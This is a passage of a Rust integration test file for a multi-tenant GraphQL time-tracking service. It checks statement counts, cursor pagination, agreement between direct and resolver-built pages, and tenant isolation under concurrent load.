         FROM generate_series(1, 120) i
         JOIN acme.projects p ON p.id = 1 + i % 21 JOIN acme.tasks t ON t.project_id = p.id",
    )
    .await;
    let query = |n: usize| {
        format!(
            "{{ timeEntries(first: {n}) {{ edges {{ node {{ minutes amount \
               project {{ name client {{ name }} }} task {{ name }} user {{ email }} }} }} }} }}"
        )
    };
    app.execute_counted(&t, &admin, &query(1)).await;
    let (five, few) = app.execute_counted(&t, &admin, &query(5)).await;
    let (page, many) = app.execute_counted(&t, &admin, &query(100)).await;
    assert_eq!(five["timeEntries"]["edges"].as_array().unwrap().len(), 5);
    let edges = page["timeEntries"]["edges"].as_array().unwrap();
    assert_eq!(edges.len(), 100);
    assert!(
        edges
            .iter()
            .all(|e| e["node"]["project"]["client"]["name"].is_string()
                && e["node"]["task"]["name"].is_string()
                && e["node"]["user"]["email"].is_string())
    );
    assert_eq!(few, many, "statements must not grow with the rows returned");
    // BEGIN with the tenant path, the page with projects, clients, tasks and users, COMMIT.
    assert_eq!(many, 3);
}

#[tokio::test]
async fn pages_of_entries_follow_each_other_in_date_order() {
    let app = TestApp::new().await;
    let t = app.create_tenant("acme").await;
    let admin = app.login_admin(&t).await;
    let _ = app.as_user(&t, &admin).catalog("100").await;
    // 45 entries over 9 days, inserted out of date order.
    app.exec(
        "INSERT INTO acme.time_entries (user_id, project_id, work_date, minutes, billable, notes)
         SELECT 1, 1, date '2026-11-01' + (i * 4) % 9, 15, true, 'e' || i FROM generate_series(1, 45) i",
    )
    .await;
    let mut after = Value::Null;
    let mut seen: Vec<(String, i64)> = Vec::new();
    loop {
        let page = app
            .gql(
                &t.host,
                Some(&admin),
                "query($a: String) { timeEntries(first: 20, after: $a, filter: {from: \"2026-11-02\"}) { \
                   edges { cursor node { date notes } } pageInfo { hasNextPage } } }",
                json!({ "a": after }),
            )
            .await;
        let edges = page["timeEntries"]["edges"].as_array().unwrap().clone();
        for e in &edges {
            let notes = e["node"]["notes"].as_str().unwrap();
            seen.push((
                e["node"]["date"].as_str().unwrap().to_owned(),
                notes[1..].parse().unwrap(),
            ));
        }
        if page["timeEntries"]["pageInfo"]["hasNextPage"] != json!(true) {
            break;
        }
        after = edges.last().unwrap()["cursor"].clone();
    }
    // Every entry from 2 November on, once, by date and then creation.
    assert_eq!(seen.len(), 40);
    let mut sorted = seen.clone();
    sorted.sort();
    assert_eq!(
        seen.iter().map(|s| &s.0).collect::<Vec<_>>(),
        sorted.iter().map(|s| &s.0).collect::<Vec<_>>()
    );
    let mut unique = seen.iter().map(|s| s.1).collect::<Vec<_>>();
    unique.sort();
    unique.dedup();
    assert_eq!(unique.len(), 40);
}

/// Every field a page of entries can show, written directly and through the resolvers: the
/// same answer, for an admin and a member, in two currencies.
#[tokio::test]
async fn a_page_written_directly_answers_as_its_resolvers_do() {
    use std::sync::atomic::{AtomicU64, Ordering};
    let app = TestApp::new().await;
    let t = app.create_tenant("acme").await;
    let admin = app.login_admin(&t).await;
    let member = app.create_user(&t, &admin, "dev@acme.example", "MEMBER").await;
    let _ = app.as_user(&t, &admin).catalog("100").await;
    // A second client and project without rate or code, a non-billable task, and entries of
    // every shape: with and without task, rate and reference; timed, running, approved.
    app.exec("UPDATE acme.clients SET billing_email = 'ap@globex.example';
         UPDATE acme.projects SET budget_hours = 120.5;
         INSERT INTO acme.clients (name) VALUES ('Initech');
         INSERT INTO acme.projects (client_id, name, billable)
         SELECT id, 'Audit', false FROM acme.clients WHERE name = 'Initech';
         INSERT INTO acme.tasks (project_id, name, billable) SELECT id, 'Review', false FROM acme.projects WHERE name = 'Audit';
         INSERT INTO acme.time_entries
           (user_id, project_id, task_id, work_date, started_at, ended_at, minutes, billable, hourly_rate, notes, status, external_ref)
         VALUES
           (1, 1, 1, '2026-11-02', NULL, NULL, 45, true, 95.55, E'Built \"it\": a \\\\ b\\nnext\\tline\\x01 Zoë 東京', 'APPROVED', 'ext-1'),
           (2, 1, NULL, '2026-11-02', '2026-11-02 09:00Z', '2026-11-02 09:07Z', 7, true, 333.33, '', 'DRAFT', NULL),
           (2, 2, 2, '2026-11-03', NULL, NULL, 90, false, NULL, 'Audit', 'SUBMITTED', 'ext-2'),
           (1, 2, NULL, '2026-11-04', NULL, NULL, 15, true, NULL, 'No rate', 'DRAFT', NULL),
           (2, 1, 1, '2026-11-05', '2026-11-05 08:00Z', NULL, NULL, true, 100, 'Running', 'DRAFT', NULL)",
    )
    .await;
    let fields = "fragment Entry on TimeEntry { __typename id date startedAt endedAt minutes hours running \
        notes billable rate amount status externalRef createdAt updatedAt day: date \
        user { __typename id email name role active createdAt updatedAt } \
        project { __typename id code name billable hourlyRate budgetHours archived createdAt \
          client { __typename id name billingEmail archived createdAt } } \
        task { __typename id name billable archived project { id name client { name } } } \
        ... { again: notes } }";
    let page = |extra: &str| {
        format!(
            "query($a: String) {{ timeEntries(first: 3, after: $a) {{ __typename \
               edges {{ __typename cursor node {{ ...Entry {extra} }} }} \
               nodes {{ id ... on TimeEntry {{ minutes }} }} \
               pageInfo {{ hasPreviousPage hasNextPage startCursor endCursor }} }} }} {fields}"
        )
    };
    // A fragment on the Node interface is the resolvers' to apply: it sends the same
    // selection down the general path.
    let (direct, general) = (page(""), page("... on Node { id }"));
    let pages = app
        .state
        .services
        .get::<crowdminder::graphql::support::PageStats>();
    let counts = || {
        (
            AtomicU64::load(&pages.entries_direct, Ordering::Relaxed),
            AtomicU64::load(&pages.entries_general, Ordering::Relaxed),
        )
    };
    for currency in ["EUR", "JPY"] {
        app.as_user(&t, &admin)
            .settings(json!({ "currency": currency }))
            .await;
        for (who, token, entries) in [("admin", &admin, 5), ("member", &member, 3)] {
            let pages = app
                .pages_alike(&t.host, token, "timeEntries", (&direct, &general), counts)
                .await;
            let seen: usize = pages
                .iter()
                .map(|p| p["timeEntries"]["edges"].as_array().unwrap().len())
                .sum();
            assert_eq!(seen, entries, "{who} pages through every entry they may see");
        }
    }
    // What the page said, checked by hand: admin's first page in yen.
    let a = app
        .gql(&t.host, Some(&admin), &direct, json!({ "a": null }))
        .await;
    let edges = a["timeEntries"]["edges"].as_array().unwrap();
    let first = &edges[0]["node"];
    assert_eq!(first["__typename"], "TimeEntry");
    // Text that JSON must escape: quotes, a backslash, line breaks, a control character.
    let notes = "Built \"it\": a \\ b\nnext\tline\u{1} Zoë 東京";
    assert_eq!(first["notes"], notes);
    assert_eq!(first["again"], notes);
    assert_eq!(first["day"], "2026-11-02");
    assert_eq!(first["hours"], "0.75");
    assert_eq!(first["rate"], "95.55");
    assert_eq!(first["amount"], "72", "45 min at 95.55 is 71.6625, 72 in yen");
    assert_eq!(first["status"], "APPROVED");
    assert_eq!(first["externalRef"], "ext-1");
    assert_eq!(first["user"]["role"], "ADMIN");
    assert_eq!(first["project"]["budgetHours"], "120.5");
    assert_eq!(first["project"]["client"]["billingEmail"], "ap@globex.example");
    assert_eq!(first["task"]["project"]["client"]["name"], "Globex");
    let timed = &edges[1]["node"];
    assert_eq!(timed["minutes"], 7);
    assert_eq!(timed["startedAt"], "2026-11-02T09:00:00+00:00");
    assert_eq!(timed["amount"], "39", "7 min at 333.33 is 38.8885");
    assert_eq!(timed["task"], Value::Null);
    assert_eq!(timed["externalRef"], Value::Null);
    let unbilled = &edges[2]["node"];
    assert_eq!(unbilled["amount"], "0");
    assert_eq!(unbilled["rate"], Value::Null);
    assert_eq!(unbilled["project"]["code"], Value::Null);
    assert_eq!(unbilled["task"]["billable"], false);
    assert_eq!(a["timeEntries"]["nodes"][2]["minutes"], 90);
    assert_eq!(a["timeEntries"]["pageInfo"]["hasPreviousPage"], false);
    assert_eq!(a["timeEntries"]["pageInfo"]["endCursor"], edges[2]["cursor"]);

    // A page joins only the relations its selection reads; what it did not join, the
    // resolvers load, and both answer as the whole page did. Through a fragment on Node,
    // a relation the page's own selection leaves out is still found.
    let whole = |n: &Value, path: &[&str]| path.iter().fold(n.clone(), |v, k| v[*k].clone());
    // Each field alone, then relations.
    let scalars = [
        "date",
        "startedAt",
        "endedAt",
        "minutes",
        "hours",
        "running",
        "notes",
        "billable",
        "rate",
        "amount",
        "status",
        "externalRef",
        "createdAt",
        "updatedAt",
    ];
    let mut alone: Vec<(String, Vec<&str>)> = scalars.iter().map(|f| (format!("id {f}"), vec![*f])).collect();
    // Each field of each relation alone: the page reads only its columns.
    let relations: [(&str, &str, &[&str]); 4] = [
        (
            "user { ",
            " }",
            &["email", "name", "role", "active", "createdAt", "updatedAt"],
        ),
        (
            "project { ",
            " }",
            &[
                "code",
                "name",
                "billable",
                "hourlyRate",
                "budgetHours",
                "archived",
                "createdAt",
            ],
        ),
        (
            "project { client { ",
            " } }",
            &["name", "billingEmail", "archived", "createdAt"],
        ),
        ("task { ", " }", &["name", "billable", "archived"]),
    ];
    for (open, close, fields) in relations {
        let path: Vec<&str> = open.split(" { ").filter(|p| !p.trim().is_empty()).collect();
        for field in fields {
            let mut at = path.clone();
            at.push(field);
            alone.push((format!("id {open}{field}{close}"), at));
        }
    }
    let alone = alone.iter().map(|(s, p)| (s.as_str(), &p[..]));
    for (selection, path) in alone.chain([
        ("id minutes", &["minutes"][..]),
        ("id user { email }", &["user", "email"][..]),
        ("id project { name hourlyRate }", &["project", "name"][..]),
        (
            "id task { name project { code client { name } } }",
            &["task", "project", "client", "name"][..],
        ),
        (
            "id ... on Node { ... on TimeEntry { project { client { billingEmail } } } }",
            &["project", "client", "billingEmail"][..],
        ),
    ]) {
        let query = |extra: &str| {
            format!("{{ timeEntries(first: 5) {{ edges {{ node {{ {selection} {extra} }} }} }} }}")
        };
        for token in [&admin, &member] {
            let before = counts();
            let direct = app.gql(&t.host, Some(token), &query(""), json!({})).await;
            // A fragment on the Node interface is the resolvers' to apply (see above).
            let directly = !selection.contains("on Node");
            assert_eq!(counts().0, before.0 + u64::from(directly), "{selection}");
            let general = app
                .gql(&t.host, Some(token), &query("... on Node { id }"), json!({}))
                .await;
            assert_eq!(direct, general, "{selection}");
            let all = app
                .gql(
                    &t.host,
                    Some(token),
                    &format!("{{ timeEntries(first: 5) {{ edges {{ node {{ ...Entry }} }} }} }} {fields}"),
                    json!({}),
                )
                .await;
            let (part, all) = (&direct["timeEntries"]["edges"], &all["timeEntries"]["edges"]);
            assert_eq!(
                part.as_array().unwrap().len(),
                all.as_array().unwrap().len(),
                "{selection}"
            );
            for (p, a) in part.as_array().unwrap().iter().zip(all.as_array().unwrap()) {
                assert_eq!(p["node"]["id"], a["node"]["id"]);
                assert_eq!(whole(&p["node"], path), whole(&a["node"], path), "{selection}");
            }
        }
    }
}

/// Twenty tenants whose rows have the same ids (each has its own client, project and task
/// numbered 1) share a pool of three connections, which `scripts/dev.sh test` also runs
/// through pgbouncer in transaction mode. Time is logged, refused and read in all of them at
/// once: every answer is its own tenant's, and a refused entry leaves nothing behind.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn tenants_with_the_same_ids_log_and_read_time_at_once_through_a_small_pool() {
    const TENANTS: usize = 20;
    const ROUNDS: usize = 6;
    let app = std::sync::Arc::new(TestApp::with_pool_size(3).await);
    let mut tenants = Vec::new();
    for i in 0..TENANTS {
        let t = app.create_tenant(&format!("firm_{i:02}")).await;
        let admin = app.login_admin(&t).await;
        let c = app.as_user(&t, &admin).catalog("100").await;
        app.gql(
            &t.host,
            Some(&admin),
            "mutation($id: ID!, $n: String!) { updateClient(id: $id, input: {name: $n}) { id } }",
            json!({ "id": c.client, "n": format!("Client of {}", t.schema) }),
        )
        .await;
        tenants.push(std::sync::Arc::new((t, admin, c)));
    }
    // The same ids everywhere: only the host tells the tenants apart.
    assert!(tenants.iter().all(|t| t.2.project == tenants[0].2.project));

    let mut tasks = Vec::new();
    for k in 0..TENANTS * ROUNDS {
        let app = std::sync::Arc::clone(&app);
        let tenant = std::sync::Arc::clone(&tenants[k % tenants.len()]);
        tasks.push(tokio::spawn(async move {
            let (t, token, c) = &*tenant;
            let own_client = format!("Client of {}", t.schema);
            match (k / TENANTS) % 3 {
                0 => {
                    let created = app
                        .gql(
                            &t.host,
                            Some(token),
                            "mutation($i: CreateTimeEntryInput!) { createTimeEntry(input: $i) { notes project { client { name } } } }",
                            json!({ "i": { "projectId": c.project, "taskId": c.task, "date": "2026-11-23",
                                           "minutes": 60, "notes": format!("{} #{k}", t.schema) } }),
                        )
                        .await;
                    assert_eq!(created["createTimeEntry"]["project"]["client"]["name"], own_client.as_str());
                }
                1 => {
                    let (_, error) = app
                        .gql_error(
                            &t.host,
                            Some(token),
                            "mutation($i: CreateTimeEntryInput!) { createTimeEntry(input: $i) { id } }",
                            json!({ "i": { "projectId": c.project, "date": "2026-11-23", "minutes": 50,
                                           "notes": format!("{} refused #{k}", t.schema) } }),
                        )
                        .await;
                    assert_error(&error, "BAD_USER_INPUT", Some("input.minutes"));
                }
                _ => {
                    let page = app
                        .gql(
                            &t.host,
                            Some(token),
                            "{ timeEntries(first: 100) { edges { node { notes project { client { name } } } } } }",
                            json!({}),
                        )
                        .await;
                    for edge in page["timeEntries"]["edges"].as_array().unwrap() {
                        let node = &edge["node"];
                        assert!(node["notes"].as_str().unwrap().starts_with(&format!("{} #", t.schema)), "{node}");
                        assert_eq!(node["project"]["client"]["name"], own_client.as_str());
                    }
                }
            }
        }));
    }
    for task in tasks {
        task.await.unwrap();
    }
    // Each tenant holds exactly the entries it was told to make, and none it was refused.
    let made_per_tenant = (0..ROUNDS).filter(|round| round % 3 == 0).count();
    for tenant in &tenants {
        let (t, _, _) = &**tenant;
        let schema = &t.schema;
        let entries = app
            .count(&format!("SELECT count(*) AS n FROM {schema}.time_entries"))
            .await;
        assert_eq!(entries, made_per_tenant as i64);
        let foreign = app
            .count(&format!(
                "SELECT count(*) AS n FROM {schema}.time_entries WHERE notes NOT LIKE '{schema} #%'"
            ))
            .await;
        assert_eq!(foreign, 0);
    }
}
